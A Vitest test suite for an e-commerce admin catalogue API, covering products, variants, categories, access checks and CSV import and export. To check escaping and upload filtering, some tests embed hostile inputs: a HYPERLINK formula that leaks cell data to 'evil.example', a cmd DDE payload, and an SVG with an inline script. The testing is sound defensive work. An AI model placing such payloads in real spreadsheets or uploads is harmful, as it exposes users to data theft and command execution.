import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { afterAll, describe, expect, it } from "vitest";
import { DELETE as categoryDelete, POST as categoryAdd, PUT as categoryUpdate } from "@/app/api/v1/products/category/route";
import { POST as createProductRoute } from "@/app/api/v1/products/createProduct/route";
import { DELETE as productDelete } from "@/app/api/v1/products/product/route";
import { POST as updateProductRoute } from "@/app/api/v1/products/updateProduct/route";
import { DELETE as variantDelete, POST as variantAdd, PUT as variantUpdate } from "@/app/api/v1/products/varient/route";
import { CATEGORY_TAKEN_MESSAGE, categoryInUseMessage } from "@/lib/catalog-admin/categories/categories";
import { GET as exportCsvRoute } from "@/app/(shop)/admin/manage-products/export/route";
import { POST as importCsvRoute } from "@/app/api/v1/products/importCsv/route";
import { CATEGORY_CHOICE_MESSAGE } from "@/lib/catalog-admin/products/products";
import {
  CATEGORY_IMAGE_MESSAGE,
  COLOR_CODE_MESSAGE,
  CUT_PRICE_MESSAGE,
  HSN_MESSAGE,
  NO_IMAGE_MESSAGE,
  NO_SIZE_MESSAGE,
  REGION_MESSAGE,
  REQUIRED,
  SIZE_NUMBERS_MESSAGE,
} from "@/lib/catalog-admin/schemas";
import { COLOR_TAKEN_MESSAGE, UNKNOWN_IMAGE_MESSAGE } from "@/lib/catalog-admin/products/variants";
import { getProductDetail } from "@/lib/catalog/product/detail";
import { searchProducts } from "@/lib/catalog/search/search";
import { IMAGE_TYPE_MESSAGE } from "@/lib/uploads/image-file";
import { cashOnDelivery } from "@/lib/orders/place/place-order";
import { APP_ORIGIN, call, db, pngFile, type CallOptions, type RouteHandler } from "../../support/api";
import { buyer, type Buyer } from "../orders/fixtures";

afterAll(() => db.$disconnect());

type Body = {
  success: boolean;
  message?: string;
  archived?: boolean;
  product?: {
    id: string;
    name: string;
    details: string[];
    cashOnDelivery: "On" | "Off";
    originRegion: string;
    minPrice: number;
    maxPrice: number;
    minStock: number;
    maxStock: number;
    totalVariants: number;
    subDetails: {
      id: string;
      colorCode: string;
      images: string[];
      sizes: { size: string; price: number; discount: number; stock: number }[];
    }[];
  };
  categories?: { id: string; name: string; image: string; productCount: number }[];
};

async function send(handler: RouteHandler, options: CallOptions) {
  const { status, body } = await call(handler, options);
  return { status, body: body as unknown as Body };
}

async function admin(): Promise<Buyer> {
  const user = await buyer();
  await db.user.update({ where: { id: user.id }, data: { role: "ADMIN" } });
  return user;
}

const tag = () => randomUUID().slice(0, 8);

async function category(): Promise<string> {
  const t = tag();
  return (await db.category.create({ data: { name: `Admin cat ${t}`, slug: `admin-cat-${t}`, image: "/c.webp" } })).id;
}

function productForm(fields: Record<string, string>): FormData {
  const form = new FormData();
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  return form;
}

const goodProduct = (categoryId: string, extra: Record<string, string> = {}) =>
  productForm({
    name: "Lucknowi chikan kurta",
    description: "Hand-embroidered cotton",
    details: JSON.stringify(["Pure cotton", "", "  Hand wash  "]),
    hsn: "6211",
    category: categoryId,
    ...extra,
  });

const sizes = (rows: unknown[]) => JSON.stringify(rows);
const threeSizes = sizes([
  { size: "S", price: 1499, discount: 1999, stock: 4 },
  { size: "M", price: 1299, discount: 1999, stock: 0 },
  { size: "L", price: 1599, discount: 1599, stock: 7 },
]);

async function variantForm(productId: string, fields: Record<string, string>, images: (Blob | string)[]): Promise<FormData> {
  const form = new FormData();
  form.append("productId", productId);
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  for (const image of images) {
    if (typeof image === "string") form.append("images", image);
    else form.append("images", image, "photo.png");
  }
  return form;
}

async function newProduct(token: string, categoryId?: string) {
  const made = await send(createProductRoute, {
    path: "/api/v1/products/createProduct",
    token,
    form: goodProduct(categoryId ?? (await category())),
  });
  expect(made.status).toBe(200);
  return made.body.product!;
}

async function withVariant(token: string) {
  const product = await newProduct(token);
  const form = await variantForm(product.id, { colorCode: "#2E3A87", colorName: "Indigo", sizes: threeSizes }, [
    await pngFile(),
    await pngFile(),
  ]);
  const added = await send(variantAdd, { path: "/api/v1/products/varient", token, form });
  expect(added.status).toBe(200);
  return added.body.product!;
}

describe("createProduct and updateProduct", () => {
  it("creates a product: detail lines trimmed with empty ones ignored, COD Off by default, audited", async () => {
    const user = await admin();
    const categoryId = await category();
    const { status, body } = await send(createProductRoute, {
      path: "/api/v1/products/createProduct",
      token: user.token,
      form: goodProduct(categoryId),
    });
    expect(status).toBe(200);
    expect(body).toMatchObject({ success: true, message: "Product created" });
    expect(body.product).toMatchObject({
      name: "Lucknowi chikan kurta",
      details: ["Pure cotton", "Hand wash"],
      cashOnDelivery: "Off",
      totalVariants: 0,
    });
    const audit = await db.auditLog.findFirstOrThrow({ where: { entityId: body.product!.id } });
    expect(audit).toMatchObject({ actorId: user.id, action: "product.created", entityType: "Product" });
    expect(audit.data).toMatchObject({ before: null, after: { name: "Lucknowi chikan kurta", hsn: "6211" } });
  });

  it("answers every validation message of the product form", async () => {
    const user = await admin();
    const categoryId = await category();
    const attempt = (fields: Record<string, string>) =>
      send(createProductRoute, { path: "/api/v1/products/createProduct", token: user.token, form: goodProduct(categoryId, fields) });
    for (const field of ["name", "description", "hsn", "category"]) {
      const { status, body } = await attempt({ [field]: "  " });
      expect(status, field).toBe(400);
      expect(body, field).toMatchObject({ success: false, message: REQUIRED });
    }
    for (const hsn of ["621", "62111", "6211a", "123456789"]) {
      expect((await attempt({ hsn })).body.message).toBe(HSN_MESSAGE);
    }
    for (const hsn of ["6211", "621142", "62114290"]) expect((await attempt({ hsn })).status).toBe(200);
    expect((await attempt({ category: "no-such-category" })).body.message).toBe(CATEGORY_CHOICE_MESSAGE);
    expect((await attempt({ cashOnDelivery: "Maybe" })).body.message).toBe("Cash on Delivery must be On or Off");
    expect((await attempt({ cashOnDelivery: "On" })).body.product!.cashOnDelivery).toBe("On");
  });

  it("updates every field, audits before and after, and 404s an unknown id", async () => {
    const user = await admin();
    const product = await newProduct(user.token);
    const other = await category();
    const form = goodProduct(other, { id: product.id, name: "Renamed kurta", cashOnDelivery: "On", details: "[]" });
    const { status, body } = await send(updateProductRoute, { path: "/api/v1/products/updateProduct", token: user.token, form });
    expect(status).toBe(200);
    expect(body.product).toMatchObject({ name: "Renamed kurta", cashOnDelivery: "On", details: [] });
    const audit = await db.auditLog.findFirstOrThrow({ where: { entityId: product.id, action: "product.updated" } });
    expect(audit.data).toMatchObject({ before: { name: "Lucknowi chikan kurta" }, after: { name: "Renamed kurta", categoryId: other } });
    const missing = await send(updateProductRoute, {
      path: "/api/v1/products/updateProduct",
      token: user.token,
      form: goodProduct(other, { id: "nope" }),
    });
    expect(missing).toMatchObject({ status: 404, body: { success: false, message: "Product not found" } });
  });
});

describe("the craft region shoppers filter by", () => {
  it("is set by the form, spelled as the catalogue already spells it, kept when a client sends only the spec's fields, and cleared by an empty value", async () => {
    const user = await admin();
    const categoryId = await category();
    const region = `Kutch ${tag()}`;
    const create = (fields: Record<string, string>) =>
      send(createProductRoute, { path: "/api/v1/products/createProduct", token: user.token, form: goodProduct(categoryId, fields) });
    const update = (id: string, fields: Record<string, string>) =>
      send(updateProductRoute, {
        path: "/api/v1/products/updateProduct",
        token: user.token,
        form: goodProduct(categoryId, { id, ...fields }),
      });

    expect((await create({})).body.product!.originRegion).toBe("");
    const first = await create({ originRegion: `  ${region}  ` });
    expect(first.body.product!.originRegion).toBe(region);
    const second = await create({ originRegion: region.toUpperCase() });
    expect(second.body.product!.originRegion).toBe(region);

    expect((await update(second.body.product!.id, { name: "Bandhani kurta" })).body.product).toMatchObject({
      name: "Bandhani kurta",
      originRegion: region,
    });
    expect((await update(second.body.product!.id, { originRegion: "" })).body.product!.originRegion).toBe("");
    expect(await create({ originRegion: "K".repeat(61) })).toMatchObject({
      status: 400,
      body: { success: false, message: REGION_MESSAGE },
    });
  });
});

describe("products/varient", () => {
  it("adds a variant with two images and three sizes, and refreshes the listing fields", async () => {
    const user = await admin();
    const product = await withVariant(user.token);
    expect(product).toMatchObject({ minPrice: 1299, maxPrice: 1599, minStock: 0, maxStock: 7, totalVariants: 1 });
    const variant = product.subDetails[0]!;
    expect(variant.colorCode).toBe("#2e3a87");
    expect(variant.images).toHaveLength(2);
    expect(variant.sizes.map((s) => s.size)).toEqual(["S", "M", "L"]);
    const row = await db.product.findUniqueOrThrow({ where: { id: product.id } });
    expect(row).toMatchObject({ inStock: true, maxDiscountPct: 35, availableSizes: ["S", "L"], colorCodes: ["#2e3a87"] });
    const detail = await getProductDetail(product.id);
    expect(detail!.variants[0]!.images.map((image) => image.url)).toEqual(variant.images);
    expect(await db.auditLog.count({ where: { entityId: variant.id, action: "variant.created" } })).toBe(1);
  });

  it("answers every validation message of the variant form", async () => {
    const user = await admin();
    const product = await newProduct(user.token);
    const png = await pngFile();
    const attempt = async (fields: Record<string, string>, images: (Blob | string)[] = [png]) =>
      send(variantAdd, {
        path: "/api/v1/products/varient",
        token: user.token,
        form: await variantForm(product.id, { colorCode: "#abc", colorName: "Ivory", sizes: threeSizes, ...fields }, images),
      });
    expect((await attempt({}, [])).body.message).toBe(NO_IMAGE_MESSAGE);
    expect((await attempt({ sizes: "[]" })).body.message).toBe(NO_SIZE_MESSAGE);
    for (const row of [
      { size: "", price: 1, discount: 1, stock: 1 },
      { size: "S", price: "", discount: 1, stock: 1 },
      { size: "S", price: "abc", discount: 1, stock: 1 },
      { size: "S", price: 1, discount: 1, stock: "x" },
      { size: "S", price: -1, discount: 1, stock: 1 },
    ]) {
      const { status, body } = await attempt({ sizes: sizes([row]) });
      expect(status, JSON.stringify(row)).toBe(400);
      expect(body.message, JSON.stringify(row)).toBe(SIZE_NUMBERS_MESSAGE);
    }
    expect((await attempt({ sizes: sizes([{ size: "S", price: 2000, discount: 1999, stock: 1 }]) })).body.message).toBe(CUT_PRICE_MESSAGE);
    const twice = sizes([
      { size: "M", price: 1, discount: 1, stock: 1 },
      { size: "m", price: 1, discount: 1, stock: 1 },
    ]);
    expect((await attempt({ sizes: twice })).body.message).toBe("Each size may appear only once in a variant");
    for (const colorCode of ["", "abc", "#abcd", "#ggg", "#12345"]) {
      expect((await attempt({ colorCode })).body.message, colorCode).toBe(COLOR_CODE_MESSAGE);
    }
    expect((await attempt({ colorName: " " })).body.message).toBe(REQUIRED);
    const svg = new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'], { type: "image/svg+xml" });
    expect((await attempt({}, [svg])).body.message).toBe(IMAGE_TYPE_MESSAGE);
    const html = new Blob(["<html><body>hi</body></html>"], { type: "image/png" });
    expect((await attempt({}, [html])).body.message).toBe(IMAGE_TYPE_MESSAGE);
    expect((await attempt({}, ["/uploads/products/someone-else.webp"])).body.message).toBe(UNKNOWN_IMAGE_MESSAGE);
    expect(await db.variant.count({ where: { productId: product.id } })).toBe(0);

    expect((await attempt({ colorCode: "#ABC" })).status).toBe(200);
    const clash = await attempt({ colorCode: "#abc", colorName: "Another" });
    expect(clash).toMatchObject({ status: 409, body: { success: false, message: COLOR_TAKEN_MESSAGE } });
  });

  it("updates a variant: keeps and reorders images, replaces sizes, keeps a kept size's row, audits", async () => {
    const user = await admin();
    const product = await withVariant(user.token);
    const variant = product.subDetails[0]!;
    const keptSizeId = (await db.sizeStock.findFirstOrThrow({ where: { variantId: variant.id, size: "S" } })).id;
    const newImage = await pngFile();
    const form = await variantForm(
      product.id,
      {
        variantId: variant.id,
        colorCode: "#800000",
        colorName: "Maroon",
        sizes: sizes([
          { size: "S", price: 999, discount: 1999, stock: 2 },
          { size: "XL", price: 1799, discount: 1999, stock: 3 },
        ]),
      },
      [variant.images[1]!, newImage, variant.images[0]!],
    );
    const { status, body } = await send(variantUpdate, { method: "PUT", path: "/api/v1/products/varient", token: user.token, form });
    expect(status).toBe(200);
    const updated = body.product!.subDetails[0]!;
    expect(updated).toMatchObject({ colorCode: "#800000", colorName: "Maroon" });
    expect(updated.images).toHaveLength(3);
    expect(updated.images[0]).toBe(variant.images[1]);
    expect(updated.images[2]).toBe(variant.images[0]);
    expect(updated.sizes).toEqual([
      expect.objectContaining({ size: "S", price: 999, discount: 1999, stock: 2 }),
      expect.objectContaining({ size: "XL", price: 1799, discount: 1999, stock: 3 }),
    ]);
    expect(body.product).toMatchObject({ minPrice: 999, maxPrice: 1799 });
    expect((await db.sizeStock.findFirstOrThrow({ where: { variantId: variant.id, size: "S" } })).id).toBe(keptSizeId);
    const audit = await db.auditLog.findFirstOrThrow({ where: { entityId: variant.id, action: "variant.updated" } });
    expect(audit.data).toMatchObject({ before: { colorName: "Indigo" }, after: { colorName: "Maroon" } });
  });

  it("deletes a variant and the listing falls back to zeros", async () => {
    const user = await admin();
    const product = await withVariant(user.token);
    const variantId = product.subDetails[0]!.id;
    const { status, body } = await send(variantDelete, {
      method: "DELETE",
      path: "/api/v1/products/varient",
      token: user.token,
      json: { productId: product.id, variantId },
    });
    expect(status).toBe(200);
    expect(body.product).toMatchObject({ totalVariants: 0, minPrice: 0, maxStock: 0, subDetails: [] });
    const again = await send(variantDelete, {
      method: "DELETE",
      path: "/api/v1/products/varient",
      token: user.token,
      json: { productId: product.id, variantId },
    });
    expect(again).toMatchObject({ status: 404, body: { success: false, message: "Variant not found" } });
  });
});

describe("products/product DELETE: archive against delete", () => {
  it("deletes a product nobody ordered", async () => {
    const user = await admin();
    const product = await withVariant(user.token);
    const { status, body } = await send(productDelete, {
      method: "DELETE",
      path: "/api/v1/products/product",
      token: user.token,
      json: { id: product.id },
    });
    expect(status).toBe(200);
    expect(body).toMatchObject({ success: true, archived: false, message: "Product deleted" });
    expect(await db.product.findUnique({ where: { id: product.id } })).toBeNull();
    expect(await db.auditLog.count({ where: { entityId: product.id, action: "product.deleted" } })).toBe(1);
  });

  it("archives a product with orders: gone from search, its page and carts; the order keeps it; a new order is refused", async () => {
    const user = await admin();
    const product = await withVariant(user.token);
    await send(updateProductRoute, {
      path: "/api/v1/products/updateProduct",
      token: user.token,
      form: goodProduct((await db.product.findUniqueOrThrow({ where: { id: product.id } })).categoryId, {
        id: product.id,
        name: "Archivable zardozi kurta",
        cashOnDelivery: "On",
      }),
    });
    const size = await db.sizeStock.findFirstOrThrow({ where: { variant: { productId: product.id }, size: "S" } });
    const shopper = await buyer();
    const other = await buyer();
    const order = await cashOnDelivery(shopper.ctx, { addressId: shopper.addressId, cart: [{ sizeId: size.id, quantity: 1 }] });
    await db.cartLine.create({ data: { userId: other.id, sizeId: size.id, quantity: 1 } });
    expect((await searchProducts(other.ctx, { search: "Archivable zardozi" })).products.map((p) => p.id)).toContain(product.id);

    const { status, body } = await send(productDelete, {
      method: "DELETE",
      path: "/api/v1/products/product",
      token: user.token,
      json: { id: product.id },
    });
    expect(status).toBe(200);
    expect(body).toMatchObject({ success: true, archived: true });
    const row = await db.product.findUniqueOrThrow({ where: { id: product.id } });
    expect(row.archivedAt).toBeInstanceOf(Date);
    expect(await getProductDetail(product.id)).toBeNull();
    expect((await searchProducts(other.ctx, { search: "Archivable zardozi" })).products.map((p) => p.id)).not.toContain(product.id);
    expect(await db.cartLine.count({ where: { sizeId: size.id } })).toBe(0);
    expect(await db.orderLine.count({ where: { orderId: order.id, productId: product.id } })).toBe(1);
    await expect(cashOnDelivery(other.ctx, { addressId: other.addressId, cart: [{ sizeId: size.id, quantity: 1 }] })).rejects.toThrow(
      "A product in your cart is no longer sold",
    );
  });
});

describe("products/category add, update and delete", () => {
  it("adds with an image and a trimmed, unique name, and answers success, message and categories", async () => {
    const user = await admin();
    const name = `Anarkali ${tag()}`;
    const { status, body } = await send(categoryAdd, {
      path: "/api/v1/products/category",
      token: user.token,
      form: { name: `  ${name}  `, image: await pngFile() },
    });
    expect(status).toBe(200);
    expect(body).toMatchObject({ success: true, message: "Category added" });
    const added = body.categories!.find((c) => c.name === name)!;
    expect(added.image).toMatch(/^\/uploads\/categories\//);
    expect(await db.auditLog.count({ where: { entityId: added.id, action: "category.created" } })).toBe(1);

    const again = await send(categoryAdd, {
      path: "/api/v1/products/category",
      token: user.token,
      form: { name: name.toUpperCase(), image: await pngFile() },
    });
    expect(again).toMatchObject({ status: 409, body: { success: false, message: CATEGORY_TAKEN_MESSAGE } });
    const noName = await send(categoryAdd, {
      path: "/api/v1/products/category",
      token: user.token,
      form: { name: " ", image: await pngFile() },
    });
    expect(noName).toMatchObject({ status: 400, body: { message: REQUIRED } });
    const noImage = await send(categoryAdd, { path: "/api/v1/products/category", token: user.token, form: { name: `Other ${tag()}` } });
    expect(noImage).toMatchObject({ status: 400, body: { message: CATEGORY_IMAGE_MESSAGE } });
    const svg = new Blob(["<svg xmlns='http://www.w3.org/2000/svg'/>"], { type: "image/svg+xml" });
    const badImage = await send(categoryAdd, {
      path: "/api/v1/products/category",
      token: user.token,
      form: { name: `Other ${tag()}`, image: svg },
    });
    expect(badImage).toMatchObject({ status: 400, body: { message: IMAGE_TYPE_MESSAGE } });
  });

  it("updates the name (image optional) and refuses another category's name", async () => {
    const user = await admin();
    const id = await category();
    const taken = await db.category.findFirstOrThrow({ where: { id: { not: id } } });
    const renamed = `Renamed ${tag()}`;
    const { status, body } = await send(categoryUpdate, {
      method: "PUT",
      path: "/api/v1/products/category",
      token: user.token,
      form: { id, name: renamed },
    });
    expect(status).toBe(200);
    expect(body).toMatchObject({ success: true, message: "Category updated" });
    expect(body.categories!.find((c) => c.id === id)).toMatchObject({ name: renamed, image: "/c.webp" });
    const clash = await send(categoryUpdate, {
      method: "PUT",
      path: "/api/v1/products/category",
      token: user.token,
      form: { id, name: taken.name },
    });
    expect(clash).toMatchObject({ status: 409, body: { message: CATEGORY_TAKEN_MESSAGE } });
    const missing = await send(categoryUpdate, {
      method: "PUT",
      path: "/api/v1/products/category",
      token: user.token,
      form: { id: "nope", name: "X" },
    });
    expect(missing.status).toBe(404);
  });

  it("gives a new category its name as slug (its page's address), keeps it on a rename, and numbers a taken one", async () => {
    const user = await admin();
    const t = tag();
    const add = async (name: string) =>
      send(categoryAdd, { path: "/api/v1/products/category", token: user.token, form: { name, image: await pngFile() } });
    const slugOf = async (name: string) => (await db.category.findFirstOrThrow({ where: { name } })).slug;

    expect((await add(`Wedding Kurtas ${t}`)).status).toBe(200);
    expect(await slugOf(`Wedding Kurtas ${t}`)).toBe(`wedding-kurtas-${t}`);
    const { id } = await db.category.findFirstOrThrow({ where: { name: `Wedding Kurtas ${t}` } });
    const renamed = await send(categoryUpdate, {
      method: "PUT",
      path: "/api/v1/products/category",
      token: user.token,
      form: { id, name: `Shaadi Kurtas ${t}` },
    });
    expect(renamed.status).toBe(200);
    expect(await slugOf(`Shaadi Kurtas ${t}`)).toBe(`wedding-kurtas-${t}`);

    // The old name is free again, its slug is not: the new category gets the next free one.
    expect((await add(`Wedding  Kurtas ${t}`)).status).toBe(200);
    expect(await slugOf(`Wedding  Kurtas ${t}`)).toBe(`wedding-kurtas-${t}-2`);
    expect((await add(`Wedding & Kurtas ${t}`)).status).toBe(200);
    expect(await slugOf(`Wedding & Kurtas ${t}`)).toBe(`wedding-kurtas-${t}-3`);
  });

  it("refuses to delete a category that has products, saying how many, and deletes an empty one", async () => {
    const user = await admin();
    const id = await category();
    await newProduct(user.token, id);
    await newProduct(user.token, id);
    const refused = await send(categoryDelete, { method: "DELETE", path: "/api/v1/products/category", token: user.token, json: { id } });
    expect(refused).toMatchObject({ status: 409, body: { success: false, message: categoryInUseMessage(2) } });
    expect(refused.body.message).toContain("2 products");
    const empty = await category();
    const deleted = await send(categoryDelete, {
      method: "DELETE",
      path: "/api/v1/products/category",
      token: user.token,
      json: { id: empty },
    });
    expect(deleted.status).toBe(200);
    expect(deleted.body.categories!.some((c) => c.id === empty)).toBe(false);
    expect(await db.auditLog.count({ where: { entityId: empty, action: "category.deleted" } })).toBe(1);
  });
});

describe("access: every admin catalogue call is 401 for visitors and 403 for customers", () => {
  const calls: [string, RouteHandler, string][] = [
    ["createProduct", createProductRoute, "POST"],
    ["updateProduct", updateProductRoute, "POST"],
    ["product DELETE", productDelete, "DELETE"],
    ["varient POST", variantAdd, "POST"],
    ["varient PUT", variantUpdate, "PUT"],
    ["varient DELETE", variantDelete, "DELETE"],
    ["category POST", categoryAdd, "POST"],
    ["category PUT", categoryUpdate, "PUT"],
    ["category DELETE", categoryDelete, "DELETE"],
    ["importCsv", importCsvRoute, "POST"],
    ["admin/manage-products/export", exportCsvRoute, "GET"],
  ];
  it.each(calls)("%s", async (_name, handler, method) => {
    const shopper = await buyer();
    const categoriesBefore = await db.category.count();
    const productsBefore = await db.product.count();
    const options = { method, path: "/api/v1/products/x", ...(method === "GET" ? {} : { json: { name: "Hacked", id: "x" } }) };
    expect(await send(handler, options)).toMatchObject({ status: 401, body: { success: false } });
    expect(await send(handler, { ...options, token: shopper.token })).toMatchObject({
      status: 403,
      body: { success: false, message: "Only admins can do that" },
    });
    expect(await db.category.count()).toBe(categoriesBefore);
    expect(await db.product.count()).toBe(productsBefore);
  });
});

describe("CSV export and import", () => {
  async function exported(token: string): Promise<string> {
    const response = await exportCsvRoute(
      new Request(new URL("/admin/manage-products/export", APP_ORIGIN), { headers: { authorization: `Bearer ${token}` } }),
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    return response.text();
  }
  const importCsv = (token: string, text: string, mode: "dry-run" | "apply") =>
    call(importCsvRoute, {
      path: "/api/v1/products/importCsv",
      token,
      form: { file: new File([text], "catalogue.csv", { type: "text/csv" }), mode },
    });

  it("round trip: every product, variant and size is exported; an edited export re-imported changes exactly that", async () => {
    const user = await admin();
    const product = await withVariant(user.token);
    const text = await exported(user.token);
    const lines = text.trim().split("\n");
    expect(lines[0]).toBe(
      "productId,name,description,details,hsn,category,cashOnDelivery,archived,colorName,colorCode,images,size,price,cutPrice,stock,sizeChart,nameHi,descriptionHi",
    );
    const sizeRows = await db.sizeStock.count();
    const emptyProducts = await db.product.count({ where: { variants: { none: {} } } });
    expect(lines.length - 1).toBe(sizeRows + emptyProducts);
    const mine = lines.filter((line) => line.startsWith(product.id));
    expect(mine).toHaveLength(3);
    expect(mine[0]).toContain("Pure cotton | Hand wash");

    // Change the M price from 1299 to 1111 and re-import only this product's rows.
    const edited = [lines[0], ...mine.map((line) => (line.includes(",M,1299,") ? line.replace(",M,1299,", ",M,1111,") : line))].join("\n");
    const dry = await importCsv(user.token, edited, "dry-run");
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({ success: true, rows: 3, products: 1, created: 0, updated: 1, errors: [], applied: false });
    expect((await db.product.findUniqueOrThrow({ where: { id: product.id } })).minPricePaise).toBe(129900);

    const applied = await importCsv(user.token, edited, "apply");
    expect(applied.body).toMatchObject({ success: true, applied: true, updated: 1 });
    const row = await db.product.findUniqueOrThrow({ where: { id: product.id } });
    expect(row.minPricePaise).toBe(111100);
    const detail = await getProductDetail(product.id);
    expect(detail!.variants[0]!.sizes.map((size) => [size.size, size.pricePaise])).toEqual([
      ["S", 149900],
      ["M", 111100],
      ["L", 159900],
    ]);
    expect(detail!.variants[0]!.images.map((image) => image.url)).toEqual(product.subDetails[0]!.images);
    expect(await db.auditLog.count({ where: { entityId: product.id, action: "product.imported" } })).toBe(1);

    // A row without productId creates a new product in the named category.
    const created = edited
      .split("\n")
      .slice(0, 2)
      .map((line, index) => (index === 1 ? line.replace(product.id, "").replace("Lucknowi chikan kurta", "Imported kurta") : line));
    const made = await importCsv(user.token, created.join("\n"), "apply");
    expect(made.body).toMatchObject({ applied: true, created: 1 });
    const imported = await db.product.findFirstOrThrow({
      where: { name: "Imported kurta" },
      include: { variants: { include: { sizes: true } } },
    });
    expect(imported.variants[0]!.sizes).toHaveLength(1);
    expect(imported.totalVariants).toBe(1);
  });

  it("a cell a spreadsheet would run as a formula is exported with a ' before it, and imported back as it was", async () => {
    const user = await admin();
    const product = await withVariant(user.token);
    const name = `=HYPERLINK("https://evil.example/?leak="&A2,"Click") ${randomUUID().slice(0, 8)}`;
    await db.product.update({
      where: { id: product.id },
      data: { name, description: "+1+cmd|' /C calc'!A0", details: ["@SUM(1+1)", "-2+3"] },
    });
    const text = await exported(user.token);
    const [header, ...rest] = parse(text) as string[][];
    const mine = rest.filter((cells) => cells[0] === product.id);
    expect(mine).toHaveLength(3);
    const cell = (cells: string[], column: string) => cells[header!.indexOf(column)];
    for (const cells of mine) {
      expect(cell(cells, "name")).toBe(`'${name}`);
      expect(cell(cells, "description")).toBe("'+1+cmd|' /C calc'!A0");
      expect(cell(cells, "details")).toBe("'@SUM(1+1) | -2+3");
    }

    const applied = await importCsv(
      user.token,
      [text.split("\n")[0], ...text.split("\n").filter((line) => line.startsWith(product.id))].join("\n"),
      "apply",
    );
    expect(applied.body).toMatchObject({ success: true, applied: true, updated: 1, errors: [] });
    expect(
      await db.product.findUniqueOrThrow({ where: { id: product.id }, select: { name: true, description: true, details: true } }),
    ).toEqual({
      name,
      description: "+1+cmd|' /C calc'!A0",
      details: ["@SUM(1+1)", "-2+3"],
    });
  });

  it("a dry run reports each row's errors by line number and nothing is applied", async () => {
    const user = await admin();
    const product = await withVariant(user.token);
    const text = await exported(user.token);
    const [header, ...rest] = text.trim().split("\n");
    const mine = rest.filter((line) => line.startsWith(product.id));
    const bad = [
      header,
      mine[0]!.replace(",6211,", ",62,"),
      mine[1]!.replace("#2e3a87", "blue"),
      mine[2]!.replace(/,L,1599,1599,7,(,*)$/, ",L,abc,1599,7,$1"),
      `nope,X,Y,,6211,${mine[0]!.split(",")[5]},Off,no,,,,,,,`,
    ].join("\n");
    const before = await db.product.findUniqueOrThrow({ where: { id: product.id } });
    for (const mode of ["dry-run", "apply"] as const) {
      const { status, body } = await importCsv(user.token, bad, mode);
      expect(status).toBe(200);
      expect(body).toMatchObject({ success: true, applied: false, message: "4 errors: nothing was imported" });
      expect((body as unknown as { errors: { line: number; message: string }[] }).errors).toEqual([
        { line: 2, message: `hsn: ${HSN_MESSAGE}` },
        { line: 3, message: `colorCode: ${COLOR_CODE_MESSAGE}` },
        { line: 4, message: `size: ${SIZE_NUMBERS_MESSAGE}` },
        { line: 5, message: "No product has the id nope: leave productId empty to create one" },
      ]);
    }
    expect(await db.product.findUniqueOrThrow({ where: { id: product.id } })).toEqual(before);
    const broken = await importCsv(user.token, 'name,description\n"unclosed', "dry-run");
    expect(broken.status).toBe(400);
    expect(broken.body.message).toMatch(/^The CSV file could not be read/);
  });
});
